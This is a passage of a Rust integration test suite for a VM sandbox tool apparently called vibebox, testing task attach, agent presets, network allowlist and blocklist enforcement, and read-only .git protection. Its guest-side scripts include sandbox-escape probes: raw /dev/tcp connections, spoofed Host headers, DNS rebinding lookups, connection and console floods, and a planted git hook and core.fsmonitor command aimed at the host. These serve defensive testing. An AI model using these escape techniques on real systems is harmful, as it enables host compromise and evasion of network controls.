    let fast = || pids_of(&["ssh", "-F", config, "-W"]).len();
    let slow = || pids_of(&["ssh", "-F", config, "-t"]).len();
    let guest_tmux = |cmd: &str| {
        ok(&b.exec(&format!(
            "tmux -S \"$XDG_RUNTIME_DIR/vibebox-tasks/tmux.sock\" {cmd}"
        )))
        .trim()
        .to_string()
    };
    let attached_to_ctr = || {
        let tasks: serde_json::Value =
            serde_json::from_str(ok(&b.vibebox(&["tasks", "--json"]))).unwrap();
        tasks[0]["attached"].as_u64().unwrap()
    };
    daemon_up();

    term("one", "attach ctr");
    let s = wait_screen("one", "ticks", &|s| last_tick(s).is_some());
    let seen = last_tick(&s).unwrap();
    assert_eq!((fast(), slow()), (1, 0), "the attach took the ssh -t path");
    // The task's window follows the attaching terminal's size, and its resize.
    let size = || guest_tmux("display-message -p -t =ctr: '#{window_width}x#{window_height}'");
    assert_eq!(size(), "120x30");
    for (x, y) in [("100", "25"), ("120", "30")] {
        tmux(&["resize-window", "-t", "one", "-x", x, "-y", y]);
        let deadline = Instant::now() + Duration::from_secs(60);
        while size() != format!("{x}x{y}") {
            assert!(Instant::now() < deadline, "the task stayed {}", size());
            std::thread::sleep(Duration::from_millis(500));
        }
    }
    // Kill -9 the attached client, its ssh and the control master.
    let check = Command::new("ssh")
        .args([
            "-F",
            config,
            "-O",
            "check",
            &format!("vibebox-{}", &b.id()[..8]),
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&check.stderr).into_owned();
    let master: i32 = text
        .split("pid=")
        .nth(1)
        .and_then(|r| r.split(')').next())
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no control master: {text}"));
    let clients = pids_of(&[bin, "attach", "ctr"]);
    let sshs = pids_of(&["ssh", "-F", config, "-W"]);
    assert_eq!(clients.len(), 1, "{clients:?}");
    assert_eq!(sshs.len(), 1, "{sshs:?}");
    for pid in clients.iter().chain(&sshs).chain([&master]) {
        kill9(*pid);
    }
    wait_screen("one", "the client's end", &|s| s.contains("one-EXIT="));
    // The task went on without anyone attached.
    let deadline = Instant::now() + Duration::from_secs(120);
    while logs_tick() < seen + 3 {
        assert!(Instant::now() < deadline, "the counter stopped at {seen}");
        std::thread::sleep(Duration::from_millis(500));
    }
    let logs = ok(&b.vibebox(&["logs", "ctr"])).to_string();
    assert!(
        !logs.contains('\u{1b}') && !logs.contains("title"),
        "{logs:?}"
    );
    // The guest's side of the killed attach went with its connection.
    let deadline = Instant::now() + Duration::from_secs(60);
    while attached_to_ctr() != 0 {
        assert!(
            Instant::now() < deadline,
            "the killed attach stayed attached"
        );
        std::thread::sleep(Duration::from_millis(500));
    }

    // Two terminals on one task both see its output go on, from before they came.
    term("two", "attach ctr");
    term("three", "attach");
    let now = logs_tick();
    for t in ["two", "three"] {
        wait_screen(t, "the counter going on", &|s| {
            last_tick(s).is_some_and(|n| n >= now + 2)
        });
    }
    let later = last_tick(&screen("two")).unwrap();
    wait_screen("three", "what terminal two saw", &|s| {
        s.contains(&format!("tick-{later}"))
    });
    assert_eq!((fast(), slow()), (2, 0));
    let tasks: serde_json::Value =
        serde_json::from_str(ok(&b.vibebox(&["tasks", "--json"]))).unwrap();
    // The daemon's hidden spare session is no task.
    assert_eq!(tasks.as_array().unwrap().len(), 1, "{tasks}");
    assert_eq!(tasks[0]["name"], "ctr", "{tasks}");
    assert_eq!(tasks[0]["state"], "running", "{tasks}");
    assert_eq!(tasks[0]["attached"], 2, "{tasks}");
    assert!(
        tasks[0]["last_output"]
            .as_str()
            .unwrap()
            .starts_with("tick-"),
        "{tasks}"
    );
    // The detach key leaves the task running.
    tmux(&["send-keys", "-t", "two", "C-\\"]);
    wait_screen("two", "the detach", &|s| s.contains("two-EXIT=0"));
    // A changed detach key applies from the next attach, not only at launch.
    term_env("five", "VIBEBOX_DETACH_KEY='C-]'", "attach ctr");
    wait_screen("five", "ticks", &|s| last_tick(s).is_some());
    tmux(&["send-keys", "-t", "five", "C-]"]);
    wait_screen("five", "the detach with the new key", &|s| {
        s.contains("five-EXIT=0")
    });
    // The daemon killed in the guest: the attach still works (`ssh -t`), which
    // starts it again for the next attach, fast again.
    ok(&b.exec("kill $(cut -d' ' -f1 \"$XDG_RUNTIME_DIR/vibebox-tasks/attach.pid\")"));
    term("six", "attach ctr");
    wait_screen("six", "ticks", &|s| last_tick(s).is_some());
    assert_eq!((fast(), slow()), (0, 1), "no fallback");
    tmux(&["send-keys", "-t", "six", "C-\\"]);
    wait_screen("six", "the detach", &|s| s.contains("six-EXIT=0"));
    daemon_up();
    term("seven", "attach ctr");
    wait_screen("seven", "ticks", &|s| last_tick(s).is_some());
    assert_eq!((fast(), slow()), (1, 0), "not fast again");
    tmux(&["send-keys", "-t", "seven", "C-\\"]);
    wait_screen("seven", "the detach", &|s| s.contains("seven-EXIT=0"));

    // `vibebox list` asks the running VM for its tasks (the wait is raised for
    // this loaded host; the default is 3 s) ...
    let listed = |wait_ms: &str| {
        let mut c = b.cmd();
        c.env("VIBEBOX_LIST_TASKS_WAIT_MS", wait_ms)
            .args(["list", "--json"]);
        let out = run(c);
        assert_eq!(out.code, 0, "{}", out.stderr);
        let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
        v[0]["tasks"].clone()
    };
    assert_eq!(listed("120000"), 1);
    let mut c = b.cmd();
    c.env("VIBEBOX_LIST_TASKS_WAIT_MS", "120000").arg("list");
    let table = run(c);
    assert!(
        table.stdout.lines().next().unwrap_or("").contains("TASKS"),
        "{}",
        table.stdout
    );
    // ... and one that does not answer in time shows as unknown, not 0.
    assert_eq!(listed("1"), serde_json::Value::Null);

    // `vibebox` tells which tasks run; `stop` without a terminal refuses without -y.
    term("shell", "");
    wait_screen("shell", "the task summary", &|s| {
        s.contains("1 task running: ctr (vibebox attach ctr)")
    });
    tmux(&["send-keys", "-t", "shell", ":exit", "Enter"]);
    wait_screen("shell", "the shell's end", &|s| s.contains("shell-EXIT=0"));
    // `launch -a` attaches at once; `:detach` in the task's shell leaves it running.
    term("four", "launch -a");
    tmux(&[
        "send-keys",
        "-t",
        "four",
        "echo TASK-IS-$VIBEBOX_TASK",
        "Enter",
    ]);
    wait_screen("four", "the task's shell", &|s| s.contains("TASK-IS-shell"));
    tmux(&["send-keys", "-t", "four", ":detach", "Enter"]);
    wait_screen("four", "the detach", &|s| s.contains("four-EXIT=0"));
    let tasks = ok(&b.vibebox(&["tasks", "--json"])).to_string();
    assert!(tasks.contains("\"name\": \"shell\""), "{tasks}");
    ok(&b.vibebox(&["kill", "shell"]));
    let stop = b.vibebox(&["stop"]);
    assert_eq!(stop.code, 1, "{}", stop.stderr);
    assert!(
        stop.stderr.contains("1 task running: ctr") && stop.stderr.contains("stop -y"),
        "{}",
        stop.stderr
    );
    assert_eq!(b.status().0, "running");

    // `wait` exits with the task's status; `kill` ends a task.
    ok(&b.vibebox(&["launch", "--", "sh", "-c", "sleep 2; exit 7"]));
    assert_eq!(b.vibebox(&["wait", "sh"]).code, 7);
    ok(&b.vibebox(&["launch", "sleeper", "--", "sleep", "1000"]));
    ok(&b.vibebox(&["kill", "sleeper"]));
    let tasks = ok(&b.vibebox(&["tasks", "--json"])).to_string();
    assert!(
        tasks.contains("\"exited 7\"") && !tasks.contains("sleeper"),
        "{tasks}"
    );
    assert_eq!(b.vibebox(&["wait", "sleeper"]).code, 1);

    // An agent preset: installed from its registry on first use only, then run.
    // The stand-in registry is a static server in the VM itself (no network).
    let reg = b.project.join("registry");
    let pkg = b.env.tmp.path().join("pkg/package");
    fs::create_dir_all(reg.join("vbx-stand/-")).unwrap();
    fs::create_dir_all(&pkg).unwrap();
    fs::write(
        pkg.join("package.json"),
        r#"{"name":"vbx-stand","version":"1.0.0","bin":{"vbx-stand":"bin.js"}}"#,
    )
    .unwrap();
    fs::write(
        pkg.join("bin.js"),
        "#!/usr/bin/env node\nconsole.log('STAND-IN-RAN ' + process.argv.slice(2).join(' '));\n",
    )
    .unwrap();
    let tar = Command::new("tar")
        .arg("czf")
        .arg(reg.join("vbx-stand/-/vbx-stand-1.0.0.tgz"))
        .arg("-C")
        .arg(pkg.parent().unwrap())
        .arg("package")
        .status()
        .unwrap();
    assert!(tar.success());
    fs::write(
        reg.join("vbx-stand/index.html"),
        r#"{"name":"vbx-stand","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"vbx-stand","version":"1.0.0","bin":{"vbx-stand":"bin.js"},"dist":{"tarball":"http://127.0.0.1:4873/vbx-stand/-/vbx-stand-1.0.0.tgz"}}}}"#,
    )
    .unwrap();
    let agents = b.env.tmp.path().join("agents");
    fs::create_dir_all(&agents).unwrap();
    fs::write(
        agents.join("stand.toml"),
        "description = \"a stand-in agent\"\npackage = \"vbx-stand\"\nversion = \"latest\"\ncommand = [\"vbx-stand\", \"--from-preset\"]\ndomains = []\nlogin = [\"~/.stand\"]\nregistry = \"http://127.0.0.1:4873/\"\n",
    )
    .unwrap();
    ok(&b.vibebox(&[
        "launch",
        "registry",
        "--",
        "python3",
        "-m",
        "http.server",
        "4873",
        "--bind",
        "127.0.0.1",
        "--directory",
        reg.to_str().unwrap(),
    ]));
    let agent = |b: &Box| {
        let mut c = b.cmd();
        c.env("VIBEBOX_AGENTS", &agents)
            .args(["launch", "stand", "--", "hello"]);
        let out = run(c);
        assert_eq!(out.code, 0, "{}", out.stderr);
        let w = b.vibebox(&["wait", "stand"]);
        let logs = ok(&b.vibebox(&["logs", "stand"])).to_string();
        assert_eq!(w.code, 0, "{logs}");
        assert!(logs.contains("STAND-IN-RAN --from-preset hello"), "{logs}");
        logs
    };
    let first = agent(&b);
    assert!(
        first.contains("vibebox: installing vbx-stand@latest"),
        "{first}"
    );
    let second = agent(&b);
    assert!(!second.contains("installing"), "{second}");
    let served = ok(&b.vibebox(&["logs", "registry"])).to_string();
    assert_eq!(
        served
            .matches("GET /vbx-stand/-/vbx-stand-1.0.0.tgz")
            .count(),
        1,
        "{served}"
    );
    ok(&b.vibebox(&["kill", "registry"]));

    // No client left: the running task keeps the VM up past auto_shutdown_ms ...
    tmux(&["kill-server"]);
    b.wait_status(60, |_, clients| clients == 0);
    let log = sd.join("logs/supervisor.log");
    let deadline = Instant::now() + Duration::from_secs(120);
    while !fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("task(s) run in the guest; keeping the VM up")
    {
        assert!(
            Instant::now() < deadline,
            "no idle check came; logs:\n{}",
            b.logs()
        );
        std::thread::sleep(Duration::from_millis(500));
    }
    assert_eq!(b.status().0, "running");
    // ... and once it ends, the VM shuts down by itself, `vibebox list` asking it
    // all the while: its question is never taken for a login that keeps it up.
    let stopper = b.spawn_exec("touch /tmp/stop-counter");
    assert!(stopper.wait_with_output().unwrap().status.success());
    let before = fs::read_to_string(&log).unwrap_or_default().len();
    let deadline = Instant::now() + Duration::from_secs(180);
    while b.status().0 != "stopped" {
        assert!(
            Instant::now() < deadline,
            "the VM never stopped; logs:\n{}",
            b.logs()
        );
        let mut c = b.cmd();
        c.env("VIBEBOX_LIST_TASKS_WAIT_MS", "20000").arg("list");
        assert_eq!(run(c).code, 0);
        std::thread::sleep(Duration::from_millis(500));
    }
    let after = fs::read_to_string(&log).unwrap_or_default();
    assert!(
        !after[before..].contains("login session(s) live in the guest"),
        "a list kept the VM up:\n{}",
        &after[before..]
    );
}

// ---- the network policy, from inside a real VM ----

/// The exit code and output of the probe `key` in the output of the guest's `t`
/// lines (`key=rc|output`).
fn probe(text: &str, key: &str) -> (String, String) {
    let line = text
        .lines()
        .find(|l| l.starts_with(&format!("{key}=")))
        .unwrap_or_else(|| panic!("no {key} in:\n{text}"));
    let (rc, body) = line[key.len() + 1..].split_once('|').unwrap();
    (rc.to_string(), body.to_string())
}

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// The policy holds against the guest (root in it): allowed HTTPS and HTTP by name
/// work; other names never resolve (and never reach the upstream DNS); an IP literal,
/// an allowed SNI at an address not pinned for it, and an HTTP Host other than the
/// pinned name fail; allowed names answering with loopback or LAN addresses are
/// refused; UDP goes nowhere but the gateway's DNS; the host's loopback services are
/// out of reach; proxies and /dev/tcp change nothing; an explicit `host:22` entry
/// works for a server that speaks first; editing vibebox.toml in the guest changes
/// nothing in the running VM. Then the same in blocklist mode.
#[test]
fn network_policy_holds_against_the_guest() {
    let Some(images) = common::test_images() else {
        return;
    };
    if !is_root() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI runs the VM tests as root"
        );
        eprintln!("skipped: the network test makes network namespaces (needs root)");
        return;
    }
    let _vm = vm_lock();
    let lab = NetLab::new();
    // A service on the host's loopback that the guest must not reach.
    let host_service = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    host_service.set_nonblocking(true).unwrap();
    let hp = host_service.local_addr().unwrap().port();

    // Both modes: allowlist of the allowed names (+ git.test:22), and blocklist of
    // other.test. Every probe runs in both; the expectations differ only where the
    // modes do.
    for (name, config, mode) in [
        (
            "netallow",
            "[network]\nmode = \"allowlist\"\nentries = [\"**.allowed.test\", \"git.test:22\"]\n",
            "allowlist",
        ),
        (
            "netblock",
            "[network]\nmode = \"blocklist\"\nentries = [\"other.test\"]\n",
            "blocklist",
        ),
    ] {
        let mut b = Box::new(&images, name, config);
        b.env_vars.push((
            "VIBEBOX_DNS_UPSTREAM".into(),
            format!("127.0.0.1:{}", lab.dns_port),
        ));
        fs::copy(lab.ssh_key(), b.project.join(".netlab-key")).unwrap();
        lab.asked.lock().unwrap().clear();
        // Blocklist mode lets the guest hold connections on other ports: one of them
        // left silent for longer than any silence timeout, while the rest runs.
        let idle_since = (mode == "blocklist").then(|| {
            ok(&b.exec(IDLE_PROBE));
            Instant::now()
        });
        let before = lab.served().len();
        let out = b.exec(&network_probes(&lab.repo().display().to_string(), hp));
        let text = ok(&out).to_string();
        let result = |key: &str| probe(&text, key);
        let served = lab.served()[before..].to_string();
        let ctx = format!(
            "{mode}:\nguest:\n{text}\nservers:\n{served}\nlogs:\n{}",
            b.logs()
        );
        // Allowed HTTPS and HTTP by name, with or without proxy settings.
        assert_eq!(
            result("https"),
            ("0".into(), "allowed-https".into()),
            "{ctx}"
        );
        assert_eq!(result("http"), ("0".into(), "allowed-http".into()), "{ctx}");
        assert_eq!(
            result("noproxy"),
            ("0".into(), "allowed-https".into()),
            "{ctx}"
        );
        // git over SSH to git.test:22 (a real sshd), never to an address nothing
        // resolved.
        assert_eq!(result("git"), ("0".into(), "from git.test".into()), "{ctx}");
        assert_ne!(result("git_other").0, "0", "{ctx}");
        for key in [
            "other_dns",
            "rebind",
            "lan",
            "literal",
            "unpinned",
            "sni_other",
            "hostlo",
            "hostlo2",
            "after_edit",
        ] {
            assert_ne!(result(key).0, "0", "{key} must fail\n{ctx}");
        }
        let why = if mode == "allowlist" {
            "denied by the network policy: other.test is not in the allowlist"
        } else {
            "denied by the network policy: blocked (rule other.test)"
        };
        assert!(result("wronghost").1.contains(why), "{ctx}");
        assert!(result("devtcp").1.contains(why), "{ctx}");
        // Blocked names never left the host; no UDP and nothing for other.test
        // reached the servers; the host's loopback service saw nobody.
        assert!(!lab.was_asked("other.test"), "{ctx}");
        assert!(lab.was_asked("allowed.test"), "{ctx}");
        assert!(!served.contains("udp "), "{ctx}");
        assert!(!served.contains("198.51.100.20"), "{ctx}");
        assert!(!served.contains("other.test"), "{ctx}");
        assert!(
            host_service.accept().is_err(),
            "the guest reached the host's loopback"
        );
        let netlog =
            fs::read_to_string(b.session_dir().join("logs/network.log")).unwrap_or_default();
        let dns_denial = if mode == "allowlist" {
            "deny dns other.test: not in the allowlist"
        } else {
            "deny dns other.test: blocked (rule other.test)"
        };
        assert!(netlog.contains(dns_denial), "{netlog}");
        assert!(netlog.contains("allow tcp allowed.test:443"), "{netlog}");
        if let Some(since) = idle_since {
            // Undo the guest's edit (it made the file invalid for the host's vibebox).
            fs::write(b.project.join("vibebox.toml"), config).unwrap();
            guest_cannot_starve_or_widen(&b, &lab, since);
        }
        ok(&b.vibebox(&["stop"]));
        assert_eq!(b.status().0, "stopped");
    }
}

/// Opens a connection to the lab's echo server and leaves it silent for 150 s in the
/// background; `/tmp/idle.out` says whether it still echoed afterwards.
const IDLE_PROBE: &str = r#"getent hosts allowed.test >/dev/null
setsid bash -c 'exec 3<>/dev/tcp/198.51.100.10/7000 || { echo idle=noconnect > /tmp/idle.out; exit; }
printf a >&3; r1=$(timeout 10 head -c1 <&3); sleep 150
printf b >&3; r2=$(timeout 10 head -c1 <&3); echo "idle=$r1$r2" > /tmp/idle.out' </dev/null >/dev/null 2>&1 &
echo started"#;

/// The hardening probes, in blocklist mode (where the guest has the most room): IP
/// literals asked as DNS names or sent as the TLS server name, the host's own
/// (public-looking) veth address, a jumbo frame, a flood on the serial console,
/// more connections than the gateway's cap; then the relayed connection silent for
/// 150 s still works, a new host SSH session opens, and `stop` stops the VM.
fn guest_cannot_starve_or_widen(b: &Box, lab: &NetLab, idle_since: Instant) {
    let served_before = lab.served().len();
    // A host service on every address, the veth's included.
    let wildcard = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    wildcard.set_nonblocking(true).unwrap();
    let wport = wildcard.local_addr().unwrap().port();
    fs::write(
        b.project.join(".hello-literal"),
        vibebox::net::sni::build_client_hello(Some("198.51.100.20"), &[]),
    )
    .unwrap();
    let script = r#"
t() { printf '%s=' "$1"; shift; out=$("$@" 2>/dev/null); rc=$?; printf '%s|%s\n' "$rc" "$(printf %s "$out" | tr -d '\r\n')"; }
t literal_dns bash -c 'exec 3<>/dev/udp/10.0.2.3/53; printf "\022\064\001\000\000\001\000\000\000\000\000\000\003198\00251\003100\00220\000\000\001\000\001" >&3; timeout 5 head -c4 <&3 | od -An -tx1'
t literal_sni bash -c 'exec 3<>/dev/tcp/198.51.100.20/443; cat PROJECT/.hello-literal >&3; timeout 5 head -c7 <&3 | od -An -tx1'
t hostveth_dns getent hosts hostveth.test
t hostveth curl -s -m 10 http://hostveth.test:WPORT/
t hostveth_ip curl -s -m 10 http://198.51.100.1:WPORT/
"#
    .replace("PROJECT", &b.project.display().to_string())
    .replace("WPORT", &wport.to_string());
    let text = ok(&b.exec(&script)).to_string();
    let netlog =
        || fs::read_to_string(b.session_dir().join("logs/network.log")).unwrap_or_default();
    let ctx = || format!("guest:\n{text}\nnetwork.log:\n{}", netlog());
    // NXDOMAIN (rcode 3), and the gateway's own access_denied alert; the server at
    // that address never saw the connection.
    assert!(probe(&text, "literal_dns").1.ends_with("83"), "{}", ctx());
    assert_eq!(
        probe(&text, "literal_sni").1.trim(),
        "15 03 03 00 02 02 31",
        "{}",
        ctx()
    );
    let served = lab.served()[served_before..].to_string();
    assert!(!served.contains("198.51.100.20:443"), "{served}");
    for key in ["hostveth_dns", "hostveth", "hostveth_ip"] {
        assert_ne!(probe(&text, key).0, "0", "{key} must fail\n{}", ctx());
    }
    assert!(
        wildcard.accept().is_err(),
        "the guest reached the host's veth"
    );
    let log = netlog();
    assert!(
        log.contains("deny dns 198.51.100.20: an IP address, not a name"),
        "{log}"
    );
    assert!(log.contains("an address of this host"), "{log}");

    // A 9000-byte MTU and frames to match: dropped, the link (and SSH) stays.
    ok(&b.exec(
        r#"sudo sh -c 'dev=$(ip route show default | awk "{print \$5; exit}"); ip link set dev $dev mtu 9000; bash -c "head -c 8000 /dev/zero > /dev/udp/10.0.2.3/53; head -c 8000 /dev/zero > /dev/udp/198.51.100.10/9999"; sleep 1; ip link set dev $dev mtu 1500'"#,
    ));
    assert_eq!(ok(&b.exec("echo alive")).trim(), "alive");
    assert!(netlog().contains("drop frame: "), "{}", netlog());

    // Twice the cap and more on the serial console (17 MB: the emulated UART moves
    // about 75 KB/s under TCG, so the issue's 30 MB would add minutes and prove
    // nothing more): console.log stays within its cap and rotates.
    let t = Instant::now();
    ok(&b.exec(r#"sudo sh -c 'head -c 17000000 /dev/zero | tr "\0" x > /dev/ttyS0'"#));
    eprintln!("17 MB through the serial console took {:?}", t.elapsed());
    let logs = b.session_dir().join("logs");
    let size = |f: &str| fs::metadata(logs.join(f)).map(|m| m.len()).unwrap_or(0);
    let cap = vibebox::vm::launch::CONSOLE_MAX;
    assert!(size("console.log") <= cap, "{}", size("console.log"));
    assert!(size("console.log.1") > 0 && size("console.log.1") <= cap);

    // 1100 connections held open by the guest: the gateway's cap refuses the rest.
    ok(&b.exec(
        r#"sudo bash -c 'ulimit -n 4096; setsid bash -c "n=0; for i in \$(seq 1100); do exec {fd}<>/dev/tcp/198.51.100.10/7000 && n=\$((n+1)); done 2>/dev/null; echo \$n > /tmp/held; sleep 900" </dev/null >/dev/null 2>&1 &'"#,
    ));
    let deadline = Instant::now() + Duration::from_secs(600);
    let held: usize = loop {
        let out = b.exec("cat /tmp/held 2>/dev/null || echo wait");
        let o = ok(&out).trim().to_string();
        if let Ok(n) = o.parse() {
            break n;
        }
        assert!(
            Instant::now() < deadline,
            "the guest did not open its connections"
        );
        std::thread::sleep(Duration::from_secs(5));
    };
    eprintln!("the guest holds {held} connections");
    assert!((1000..1100).contains(&held), "{held}");
    assert!(netlog().contains("guest connections open already"));
    // A new SSH session from the host (no shared master connection) still opens.
    let sd = b.session_dir();
    let alias = format!("vibebox-{}", &b.id()[..8]);
    let out = Command::new("ssh")
        .arg("-F")
        .arg(sd.join("ssh/config"))
        .args(["-o", "ControlMaster=no", "-o", "ControlPath=none"])
        .args([alias.as_str(), "echo", "new-session"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "new-session",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The silent connection outlived 150 s of silence.
    // Waited out inside the VM, so a client holds it up meanwhile (with none, the
    // idle shutdown would end the VM and the probe with it).
    let wait = Duration::from_secs(165).saturating_sub(idle_since.elapsed());
    ok(&b.exec(&format!("sleep {}", wait.as_secs())));
    let idle = ok(&b.exec("cat /tmp/idle.out")).trim().to_string();
    assert_eq!(idle, "idle=ab", "{}", netlog());
}

/// The guest's side of the network test: one `t KEY COMMAND` line per probe, printing
/// `KEY=exit code|output`. The last probes run after the guest widened the policy
/// in vibebox.toml (which must change nothing in the running VM).
fn network_probes(repo: &str, host_port: u16) -> String {
    format!(
        r#"
t() {{ printf '%s=' "$1"; shift; out=$("$@" 2>/dev/null); rc=$?; printf '%s|%s\n' "$rc" "$(printf %s "$out" | tr -d '\r\n')"; }}
t https curl -sk -m 20 https://allowed.test/
t http curl -s -m 20 http://allowed.test/
t noproxy env https_proxy=http://10.0.2.2:3128 curl -sk -m 20 --noproxy '*' https://allowed.test/
t other_dns getent hosts other.test
t rebind getent hosts rebind.allowed.test
t lan getent hosts lan.allowed.test
t literal curl -sk -m 10 https://198.51.100.10/
t unpinned curl -sk -m 10 --resolve allowed.test:443:198.51.100.20 https://allowed.test/
t sni_other curl -sk -m 10 --resolve other.test:443:198.51.100.10 https://other.test/
t wronghost curl -s -m 10 -H 'Host: other.test' http://allowed.test/
t devtcp bash -c 'exec 3<>/dev/tcp/198.51.100.10/80; printf "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n" >&3; timeout 10 cat <&3'
t udp bash -c 'echo x > /dev/udp/198.51.100.10/9999; echo x > /dev/udp/198.51.100.10/53; sleep 1; echo sent'
t hostlo curl -s -m 5 http://10.0.2.2:{host_port}/
t hostlo2 curl -s -m 5 http://10.0.2.3:{host_port}/
cp .netlab-key /tmp/k && chmod 600 /tmp/k
export GIT_SSH_COMMAND='ssh -i /tmp/k -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=20'
t git sh -c 'git clone -q ssh://root@git.test{repo} /tmp/r && cat /tmp/r/README'
t git_other sh -c 'git ls-remote ssh://root@198.51.100.20{repo}'
printf '[network]\nmode = "blocklist"\nentries = []\n' >> vibebox.toml
t after_edit getent hosts other.test
"#
    )
}

/// Every file, directory and link under `dir` (links not followed): relative path ->
/// (kind and mode bits, content or link target). Two equal snapshots mean the tree is
/// byte-for-byte the same, modes included.
fn snapshot(dir: &Path) -> std::collections::BTreeMap<PathBuf, (u32, Vec<u8>)> {
    use std::os::unix::fs::MetadataExt;
    let mut out = std::collections::BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        let meta = fs::symlink_metadata(&d).unwrap();
        let rel = d.strip_prefix(dir).unwrap().to_path_buf();
        if meta.is_symlink() {
            let target = fs::read_link(&d).unwrap();
            out.insert(
                rel,
                (meta.mode(), target.into_os_string().into_encoded_bytes()),
            );
        } else if meta.is_dir() {
            out.insert(rel, (meta.mode(), Vec::new()));
            for e in fs::read_dir(&d).unwrap() {
                todo.push(e.unwrap().path());
            }
        } else {
            out.insert(rel, (meta.mode(), fs::read(&d).unwrap()));
        }
    }
    out
}

/// What differs between two snapshots, for a failure message.
fn snapshot_diff(
    before: &std::collections::BTreeMap<PathBuf, (u32, Vec<u8>)>,
    after: &std::collections::BTreeMap<PathBuf, (u32, Vec<u8>)>,
) -> Vec<String> {
    let mut d = Vec::new();
    for (p, v) in before {
        match after.get(p) {
            None => d.push(format!("removed {}", p.display())),
            Some(w) if w != v => d.push(format!("changed {}", p.display())),
            _ => {}
        }
    }
    for p in after.keys().filter(|p| !before.contains_key(*p)) {
        d.push(format!("added {}", p.display()));
    }
    d
}

fn host_git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir.parent().unwrap())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `.git` is read-only to the guest, enforced on the host (virtiofs): guest root
/// writes config, hooks and HEAD through the guest's git layer, then unmounts that
/// layer, remounts the share read-write and mounts the share a second time, and the
/// host's `.git` stays byte-for-byte the same. Git still works in the guest (commit,
/// branch, stash), and `vibebox fetch` brings exactly the guest's commits to the host
/// as refs/remotes/vibebox/<branch>, while the hook and core.fsmonitor the guest
/// planted never run on the host.
#[test]
fn git_is_read_only_to_the_guest_and_comes_back_by_fetch() {
    let Some(images) = common::test_images() else {
        return;
    };
    let Some(virtiofsd) = common::test_virtiofsd() else {
        return;
    };
    let _vm = vm_lock();
    // The other protected paths share this boot: made read-only where they exist
    // at the start (`protect_mode = "ro"`), watched where they do not.
    let mut b = Box::new(
        &images,
        "repo",
        "[box]\nprotect_mode = \"ro\"\nprotect = [\"tools/*.sh\"]\n",
    );
    b.virtiofsd = Some(virtiofsd);
    let p = b.project.clone();
    fs::create_dir_all(p.join(".claude")).unwrap();
    fs::write(p.join(".claude/settings.json"), "{}\n").unwrap();
    fs::create_dir_all(p.join("tools")).unwrap();
    fs::write(p.join("tools/run.sh"), "echo hi\n").unwrap();
    host_git(&p, &["init", "-q", "-b", "main"]);
    host_git(&p, &["config", "user.email", "host@example.invalid"]);
    host_git(&p, &["config", "user.name", "host"]);
    fs::write(p.join("README"), "hello\n").unwrap();
    fs::write(p.join(".gitignore"), ".vibebox/\n").unwrap();
    host_git(&p, &["add", "README", ".gitignore", "vibebox.toml"]);
    host_git(&p, &["commit", "-q", "-m", "host commit"]);
    let proof_hook = b.env.tmp.path().join("proof-hook");
    let proof_fsmonitor = b.env.tmp.path().join("proof-fsmonitor");
    let before = snapshot(&p.join(".git"));

    // Guest: git works, then guest root plants a hook and core.fsmonitor.
    let script = format!(
        r##"set -u
S=; [ "$(id -u)" = 0 ] || S="sudo -n"
git config user.email agent@example.invalid && git config user.name agent || exit 10
git status --short >/dev/null || exit 11
git checkout -q -b agent || exit 12
echo one > one.txt && git add one.txt && git commit -q -m 'agent one' || exit 13
echo wip >> README && git stash -q && git stash pop -q && git checkout -q README || exit 14
echo two > two.txt && git add two.txt && git commit -q -m "$(printf 'agent \033[31mtwo\a')" || exit 15
git branch -q scratch || exit 16
git rev-parse agent
$S sh -c 'printf "[core]\n\tfsmonitor = \"touch {fsm}\"\n" >> .git/config'
$S sh -c 'printf "#!/bin/sh\ntouch {hook}\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout'
$S sh -c 'echo "ref: refs/heads/scratch" > .git/HEAD'
$S sh -c 'echo "ref: refs/heads/agent" > .git/HEAD'
exit 0
"##,
        fsm = proof_fsmonitor.display(),
        hook = proof_hook.display()
    );
    let out = b.exec(&script);
    let agent_rev = ok(&out).trim().to_string();
    assert_eq!(agent_rev.len(), 40, "{}\n{}", out.stdout, out.stderr);
    let diff = snapshot_diff(&before, &snapshot(&p.join(".git")));
    assert!(
        diff.is_empty(),
        "the guest changed the host's .git: {diff:?}"
    );

    // Host: fetch brings exactly the guest's commits, names them, escapes them.
    let out = b.vibebox(&["fetch"]);
    let text = ok(&out);
    assert!(text.contains("vibebox/agent"), "{text}");
    assert!(text.contains("vibebox/scratch"), "{text}");
    assert!(text.contains("agent one"), "{text}");
    assert!(text.contains("agent \\x1b[31mtwo\\x07"), "{text}");
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text}"
    );
    assert_eq!(
        host_git(&p, &["rev-parse", "refs/remotes/vibebox/agent"]).trim(),
        agent_rev
    );
    assert_eq!(
        host_git(&p, &["rev-list", "main..refs/remotes/vibebox/agent"])
            .lines()
            .count(),
        2
    );
    assert_eq!(
        host_git(&p, &["symbolic-ref", "HEAD"]).trim(),
        "refs/heads/main"
    );
    // A second fetch has nothing new.
    let out = b.vibebox(&["fetch"]);
    assert!(ok(&out).contains("nothing new"), "{}", out.stdout);
    // The host uses what came back: nothing the guest planted runs.
    host_git(&p, &["status"]);
    // (-f: the guest's checkout left its files in the shared working tree.)
    host_git(
        &p,
